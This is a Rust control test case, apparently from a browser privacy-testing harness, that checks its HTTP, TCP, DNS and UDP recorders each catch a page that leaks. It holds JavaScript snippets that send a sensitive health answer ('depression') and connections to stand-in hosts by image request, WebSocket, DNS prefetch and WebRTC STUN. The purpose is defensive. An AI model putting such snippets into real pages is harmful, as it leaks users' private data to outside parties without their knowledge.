//! The control of the recorders: a page that leaks on every path is caught by each of them, so that their silence
//! elsewhere means something.

use std::time::Instant;

use crate::case::{Case, Company, Console};
use crate::drivers::{Browser, EVERY_BROWSER};
use crate::outcome::Outcome;
use crate::page::HostPage;
use crate::scene::Scene;

pub(crate) const CASE: Case = Case {
    name: "a page that leaks is caught by the HTTP, TCP, UDP and DNS recorders",
    browsers: EVERY_BROWSER,
    company: Company::Alone,
    console: Console::Spoken,
    run: |scene| Box::pin(run(scene)),
};

const BY_HTTP: &str = "new Image().src = 'http://leak-by-http.example/?answer=depression';";
const BY_TCP: &str = "new WebSocket('ws://198.51.100.7:4001/');";
const BY_DNS: &str = "
    const link = document.createElement('link');
    link.rel = 'dns-prefetch preconnect';
    link.href = '//leak-by-dns.example/';
    document.head.append(link);";
/// WebKitGTK takes the hint of a link for nothing when it comes after the page; a script's request it does not.
const BY_DNS_IN_WEBKIT: &str =
    "fetch('http://leak-by-dns.example/', { mode: 'no-cors' }).catch(() => {});";
const BY_UDP: &str = "
    globalThis.peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:198.51.100.8:3478' }] });
    peer.createDataChannel('answers');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));";

async fn run(scene: &Scene) -> Outcome {
    scene
        .session
        .goto(&scene.site.put("leaks.html", HostPage::with_body("<h1>Leaks</h1>")))
        .await?;
    let leak = async |script: &str| scene.session.on_page(script, vec![]).await;

    let start = Instant::now();
    leak(BY_HTTP).await?;
    scene
        .until_heard("the image's request over HTTP", start, |heard| {
            heard.http.iter().any(|line| line.contains("leak-by-http.example/?answer=depression"))
        })
        .await?;

    let start = Instant::now();
    leak(BY_TCP).await?;
    scene
        .until_heard("the socket over TCP", start, |heard| {
            heard.tcp.iter().any(|address| address == "198.51.100.7:4001")
        })
        .await?;

    let start = Instant::now();
    leak(if scene.browser == Browser::Webkit { BY_DNS_IN_WEBKIT } else { BY_DNS }).await?;
    scene
        .until_heard("the prefetched name over DNS", start, |heard| {
            heard.dns.iter().any(|name| name == "leak-by-dns.example")
        })
        .await?;

    if scene.browser == Browser::Webkit {
        scene.remark("this WebKit has no RTCPeerConnection; its UDP control is the datagram of the DNS question");
        return scene
            .until_heard("a datagram over UDP", start, |heard| !heard.udp.is_empty())
            .await;
    }
    let start = Instant::now();
    leak(BY_UDP).await?;
    scene
        .until_heard("the STUN request over UDP", start, |heard| {
            heard.udp.iter().any(|address| address == "198.51.100.8:3478")
        })
        .await
}
